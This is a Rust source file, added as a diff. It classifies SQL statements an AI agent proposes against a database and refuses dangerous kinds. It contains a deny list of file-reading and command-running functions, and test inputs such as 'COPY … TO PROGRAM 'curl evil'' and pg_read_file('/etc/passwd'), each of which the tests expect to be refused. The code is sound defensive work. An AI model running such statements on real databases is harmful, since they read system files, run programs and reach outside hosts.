@@ -1,0 +1,487 @@
+//! SQL statements, read through `sqlparser` in the database's dialect.
+//!
+//! Exactly one statement is accepted, from a short list of kinds Countersign can explain. The whole
+//! syntax tree is walked, so a write hidden in a CTE, `SELECT … INTO`, a locking clause or a
+//! function with side effects is seen even inside what looks like a read.
+
+use std::ops::ControlFlow;
+
+use sqlparser::ast::{
+    Expr, FromTable, LimitClause, ObjectName, Query, SelectItem, SetExpr, Statement,
+    visit_expressions, visit_relations, visit_statements,
+};
+use sqlparser::dialect::{Dialect, MySqlDialect, PostgreSqlDialect, SQLiteDialect};
+use sqlparser::parser::Parser;
+
+use crate::credential::SqlDialect;
+use crate::refusal::{Refusal, RefusalCode};
+
+/// What a statement does, as far as the person is concerned.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum SqlKind {
+    /// Reads rows.
+    Read,
+    /// Adds rows.
+    Insert,
+    /// Changes rows.
+    Update,
+    /// Removes rows.
+    Delete,
+    /// Creates, changes or removes tables, views or indexes.
+    SchemaChange,
+}
+
+/// What Countersign learned from a statement's syntax tree.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct SqlFacts {
+    /// The statement's kind (a write anywhere inside makes a read a write; see `hidden_write`).
+    pub kind: SqlKind,
+    /// The table written to, or the first table read.
+    pub target: Option<String>,
+    /// Every table the statement touches.
+    pub tables: Vec<String>,
+    /// Selected, inserted or assigned columns, as written.
+    pub columns: Vec<String>,
+    /// The `WHERE` condition, as written.
+    pub filter: Option<String>,
+    /// The `LIMIT`, as written.
+    pub limit: Option<String>,
+    /// For inserts from `VALUES`, how many rows.
+    pub row_count: Option<usize>,
+    /// A data-changing statement nested inside a read (a CTE with DML, `SELECT … INTO`).
+    pub hidden_write: Option<String>,
+    /// Functions or clauses with effects beyond reading (locks, sequences, sleeps).
+    pub side_effects: Vec<String>,
+    /// For schema changes, a short description (`drop table invoices`).
+    pub schema_action: Option<String>,
+}
+
+/// Functions that reach outside the database or change server state: never run for an agent.
+const FORBIDDEN_FUNCTIONS: &[&str] = &[
+    "pg_read_file",
+    "pg_read_binary_file",
+    "pg_ls_dir",
+    "pg_stat_file",
+    "pg_ls_logdir",
+    "pg_ls_waldir",
+    "lo_import",
+    "lo_export",
+    "dblink",
+    "dblink_exec",
+    "dblink_connect",
+    "pg_terminate_backend",
+    "pg_cancel_backend",
+    "pg_reload_conf",
+    "pg_rotate_logfile",
+    "set_config",
+    "pg_promote",
+    "pg_switch_wal",
+    "pg_create_restore_point",
+    "query_to_xml",
+    "query_to_xml_and_xmlschema",
+    "load_extension",
+    "readfile",
+    "writefile",
+    "edit",
+    "fts3_tokenizer",
+    "sys_exec",
+    "sys_eval",
+    "load_file",
+    "pg_logical_emit_message",
+];
+
+/// Functions with effects a person should know about, but that may run.
+const EFFECT_FUNCTIONS: &[&str] = &[
+    "nextval",
+    "setval",
+    "pg_sleep",
+    "pg_sleep_for",
+    "pg_sleep_until",
+    "sleep",
+    "benchmark",
+    "pg_advisory_lock",
+    "pg_advisory_xact_lock",
+    "pg_try_advisory_lock",
+    "get_lock",
+    "pg_notify",
+    "random_bytes",
+    "txid_current",
+    "pg_current_xact_id",
+];
+
+fn dialect(dialect: SqlDialect) -> Box<dyn Dialect> {
+    match dialect {
+        SqlDialect::Sqlite => Box::new(SQLiteDialect {}),
+        SqlDialect::Postgres => Box::new(PostgreSqlDialect {}),
+        SqlDialect::Mysql => Box::new(MySqlDialect {}),
+    }
+}
+
+fn name(object: &ObjectName) -> String {
+    object.to_string()
+}
+
+fn function_name(object: &ObjectName) -> String {
+    object
+        .0
+        .last()
+        .map(|part| part.to_string())
+        .unwrap_or_default()
+        .trim_matches('"')
+        .to_lowercase()
+}
+
+/// Parses and classifies one statement.
+///
+/// # Errors
+/// `unexplainable` when it does not parse or is of a kind we do not explain,
+/// `multiple_statements`, or `forbidden_statement`.
+pub fn classify(statement: &str, sql_dialect: SqlDialect) -> Result<SqlFacts, Refusal> {
+    let field = "artifact.statement";
+    let parsed = Parser::parse_sql(dialect(sql_dialect).as_ref(), statement).map_err(|error| {
+        Refusal::new(
+            RefusalCode::Unexplainable,
+            format!("The statement is not valid SQL for this database ({error})."),
+        )
+        .at(field)
+    })?;
+    let statement = match parsed.as_slice() {
+        [one] => one,
+        [] => {
+            return Err(
+                Refusal::new(RefusalCode::Unexplainable, "The statement is empty.").at(field),
+            );
+        }
+        many => {
+            return Err(Refusal::new(
+                RefusalCode::MultipleStatements,
+                format!(
+                    "There are {} statements; propose exactly one at a time.",
+                    many.len()
+                ),
+            )
+            .at(field));
+        }
+    };
+    let forbidden = |what: &str| {
+        Refusal::new(
+            RefusalCode::ForbiddenStatement,
+            format!("{what} is never run for an agent."),
+        )
+        .at(field)
+    };
+
+    let mut tables = Vec::new();
+    let _ = visit_relations(statement, |relation| {
+        let relation = name(relation);
+        if !tables.contains(&relation) {
+            tables.push(relation);
+        }
+        ControlFlow::<()>::Continue(())
+    });
+
+    let mut side_effects = Vec::new();
+    let mut forbidden_function = None;
+    let _ = visit_expressions(statement, |expr| {
+        if let Expr::Function(function) = expr {
+            let called = function_name(&function.name);
+            if FORBIDDEN_FUNCTIONS.contains(&called.as_str()) {
+                forbidden_function = Some(called);
+                return ControlFlow::Break(());
+            }
+            if EFFECT_FUNCTIONS.contains(&called.as_str()) && !side_effects.contains(&called) {
+                side_effects.push(called);
+            }
+        }
+        ControlFlow::Continue(())
+    });
+    if let Some(function) = forbidden_function {
+        return Err(forbidden(&format!(
+            "The function {function}() reaches outside the database and"
+        )));
+    }
+
+    // Nested statements: visit_statements sees the outer one first, then any inside it.
+    let mut nested = Vec::new();
+    let _ = visit_statements(statement, |inner| {
+        if !std::ptr::eq(inner, statement) {
+            nested.push(inner.clone());
+        }
+        ControlFlow::<()>::Continue(())
+    });
+    let hidden_write = nested.iter().find_map(|inner| match inner {
+        Statement::Insert(insert) => Some(format!("adds rows to {}", insert.table)),
+        Statement::Update(update) => Some(format!("changes rows of {}", update.table)),
+        Statement::Delete(delete) => {
+            let from = match &delete.from {
+                FromTable::WithFromKeyword(from) | FromTable::WithoutKeyword(from) => from,
+            };
+            Some(match from.first() {
+                Some(table) => format!("deletes rows of {}", table.relation),
+                None => "deletes rows".to_owned(),
+            })
+        }
+        Statement::Query(_) => None,
+        other => Some(format!("runs {}", first_words(&other.to_string()))),
+    });
+
+    let mut facts = SqlFacts {
+        kind: SqlKind::Read,
+        target: None,
+        tables,
+        columns: Vec::new(),
+        filter: None,
+        limit: None,
+        row_count: None,
+        hidden_write,
+        side_effects,
+        schema_action: None,
+    };
+
+    match statement {
+        Statement::Query(query) => read_query(query, &mut facts)?,
+        Statement::Insert(insert) => {
+            facts.kind = SqlKind::Insert;
+            facts.target = Some(insert.table.to_string());
+            facts.columns = insert.columns.iter().map(ToString::to_string).collect();
+            if let Some(source) = &insert.source
+                && let SetExpr::Values(values) = source.body.as_ref()
+            {
+                facts.row_count = Some(values.rows.len());
+            }
+        }
+        Statement::Update(update) => {
+            facts.kind = SqlKind::Update;
+            facts.target = Some(update.table.relation.to_string());
+            facts.columns = update
+                .assignments
+                .iter()
+                .map(|a| a.target.to_string())
+                .collect();
+            facts.filter = update.selection.as_ref().map(ToString::to_string);
+            facts.limit = update.limit.as_ref().map(ToString::to_string);
+        }
+        Statement::Delete(delete) => {
+            facts.kind = SqlKind::Delete;
+            let from = match &delete.from {
+                FromTable::WithFromKeyword(from) | FromTable::WithoutKeyword(from) => from,
+            };
+            facts.target = delete
+                .tables
+                .first()
+                .map(name)
+                .or_else(|| from.first().map(|t| t.relation.to_string()));
+            facts.filter = delete.selection.as_ref().map(ToString::to_string);
+            facts.limit = delete.limit.as_ref().map(ToString::to_string);
+        }
+        Statement::CreateTable(create) => {
+            facts.kind = SqlKind::SchemaChange;
+            facts.target = Some(name(&create.name));
+            facts.schema_action = Some(format!("create the table {}", create.name));
+        }
+        Statement::CreateView(view) => {
+            facts.kind = SqlKind::SchemaChange;
+            facts.target = Some(name(&view.name));
+            facts.schema_action = Some(format!("create the view {}", view.name));
+        }
+        Statement::CreateIndex(index) => {
+            facts.kind = SqlKind::SchemaChange;
+            facts.target = Some(name(&index.table_name));
+            facts.schema_action = Some(format!("add an index to {}", index.table_name));
+        }
+        Statement::AlterTable(alter) => {
+            facts.kind = SqlKind::SchemaChange;
+            facts.target = Some(name(&alter.name));
+            facts.schema_action = Some(format!("change the structure of {}", alter.name));
+        }
+        Statement::Drop {
+            object_type, names, ..
+        } => {
+            facts.kind = SqlKind::SchemaChange;
+            let list = names.iter().map(name).collect::<Vec<_>>().join(", ");
+            facts.target = names.first().map(name);
+            facts.schema_action = Some(format!(
+                "remove the {} {list} and everything in it",
+                object_type.to_string().to_lowercase()
+            ));
+        }
+        Statement::Truncate(truncate) => {
+            facts.kind = SqlKind::Delete;
+            facts.target = truncate.table_names.first().map(|t| t.name.to_string());
+        }
+        Statement::Copy { .. } => {
+            return Err(forbidden(
+                "COPY (which can read or write files and run programs)",
+            ));
+        }
+        Statement::StartTransaction { .. }
+        | Statement::Commit { .. }
+        | Statement::Rollback { .. }
+        | Statement::Savepoint { .. }
+        | Statement::ReleaseSavepoint { .. } => {
+            return Err(forbidden(
+                "Transaction control (Countersign runs each statement in its own transaction)",
+            ));
+        }
+        Statement::Set(_) | Statement::Reset(_) => {
+            return Err(forbidden("Changing session settings (SET)"));
+        }
+        Statement::Grant(_)
+        | Statement::Revoke(_)
+        | Statement::GrantRole(_)
+        | Statement::RevokeRole(_)
+        | Statement::CreateRole(_)
+        | Statement::AlterRole { .. }
+        | Statement::CreateUser(_)
+        | Statement::AlterUser(_) => {
+            return Err(forbidden("Changing who may do what (GRANT, REVOKE, roles)"));
+        }
+        other => {
+            return Err(forbidden(&format!(
+                "This kind of statement ({})",
+                first_words(&other.to_string())
+            )));
+        }
+    }
+    Ok(facts)
+}
+
+fn read_query(query: &Query, facts: &mut SqlFacts) -> Result<(), Refusal> {
+    if !query.locks.is_empty() {
+        facts
+            .side_effects
+            .push("locks the rows it reads (FOR UPDATE/SHARE)".to_owned());
+    }
+    facts.limit = query.limit_clause.as_ref().and_then(|clause| match clause {
+        LimitClause::LimitOffset { limit, .. } => limit.as_ref().map(ToString::to_string),
+        LimitClause::OffsetCommaLimit { limit, .. } => Some(limit.to_string()),
+    });
+    if let Some(fetch) = &query.fetch {
+        facts.limit = fetch.quantity.as_ref().map(ToString::to_string);
+    }
+    let mut body = query.body.as_ref();
+    while let SetExpr::Query(inner) = body {
+        body = inner.body.as_ref();
+    }
+    match body {
+        SetExpr::Select(select) => {
+            facts.columns = select
+                .projection
+                .iter()
+                .map(|item| match item {
+                    SelectItem::Wildcard(_) => "every column".to_owned(),
+                    SelectItem::QualifiedWildcard(object, _) => format!("every column of {object}"),
+                    other => other.to_string(),
+                })
+                .collect();
+            facts.filter = select.selection.as_ref().map(ToString::to_string);
+            facts.target = select.from.first().map(|t| t.relation.to_string());
+            if let Some(into) = &select.into {
+                facts.kind = SqlKind::SchemaChange;
+                let table = into
+                    .targets
+                    .iter()
+                    .map(ToString::to_string)
+                    .collect::<Vec<_>>()
+                    .join(", ");
+                facts.hidden_write = Some(format!("creates the table {table} from the result"));
+                facts.schema_action = Some(format!("create the table {table}"));
+            }
+        }
+        SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_) => {
+            facts
+                .hidden_write
+                .get_or_insert_with(|| "changes data".to_owned());
+        }
+        _ => {
+            facts.target = facts.tables.first().cloned();
+        }
+    }
+    if facts.kind == SqlKind::Read && facts.hidden_write.is_some() {
+        // A "read" that writes is explained as the write it is.
+        facts.kind = SqlKind::Update;
+    }
+    Ok(())
+}
+
+fn first_words(sql: &str) -> String {
+    sql.split_whitespace()
+        .take(3)
+        .collect::<Vec<_>>()
+        .join(" ")
+        .to_uppercase()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn pg(sql: &str) -> Result<SqlFacts, Refusal> {
+        classify(sql, SqlDialect::Postgres)
+    }
+
+    #[test]
+    fn reads_are_described() {
+        let facts = pg("SELECT name, dob FROM patients WHERE id = 42 LIMIT 10").unwrap();
+        assert_eq!(facts.kind, SqlKind::Read);
+        assert_eq!(facts.columns, ["name", "dob"]);
+        assert_eq!(facts.filter.as_deref(), Some("id = 42"));
+        assert_eq!(facts.limit.as_deref(), Some("10"));
+        assert_eq!(facts.tables, ["patients"]);
+    }
+
+    #[test]
+    fn a_cte_that_deletes_is_a_write() {
+        let facts = pg("WITH gone AS (DELETE FROM invoices RETURNING *) SELECT count(*) FROM gone")
+            .unwrap();
+        assert_eq!(facts.kind, SqlKind::Update);
+        assert!(facts.hidden_write.is_some());
+    }
+
+    #[test]
+    fn select_into_creates_a_table() {
+        let facts = pg("SELECT * INTO copy_of_patients FROM patients").unwrap();
+        assert_eq!(facts.kind, SqlKind::SchemaChange);
+    }
+
+    #[test]
+    fn refusals() {
+        let code = |sql| pg(sql).unwrap_err().code;
+        assert_eq!(code("SELECT 1; SELECT 2"), RefusalCode::MultipleStatements);
+        assert_eq!(code("SELEC 1"), RefusalCode::Unexplainable);
+        assert_eq!(
+            code("COPY t TO PROGRAM 'curl evil'"),
+            RefusalCode::ForbiddenStatement
+        );
+        assert_eq!(code("BEGIN"), RefusalCode::ForbiddenStatement);
+        assert_eq!(
+            code("SET statement_timeout = 0"),
+            RefusalCode::ForbiddenStatement
+        );
+        assert_eq!(
+            code("GRANT ALL ON patients TO public"),
+            RefusalCode::ForbiddenStatement
+        );
+        assert_eq!(
+            code("SELECT pg_read_file('/etc/passwd')"),
+            RefusalCode::ForbiddenStatement
+        );
+        assert_eq!(
+            classify("ATTACH DATABASE '/tmp/x.db' AS x", SqlDialect::Sqlite)
+                .unwrap_err()
+                .code,
+            RefusalCode::ForbiddenStatement
+        );
+    }
+
+    #[test]
+    fn locks_and_sequences_are_side_effects() {
+        assert!(
+            !pg("SELECT * FROM t FOR UPDATE")
+                .unwrap()
+                .side_effects
+                .is_empty()
+        );
+        assert!(!pg("SELECT nextval('s')").unwrap().side_effects.is_empty());
+    }
+}
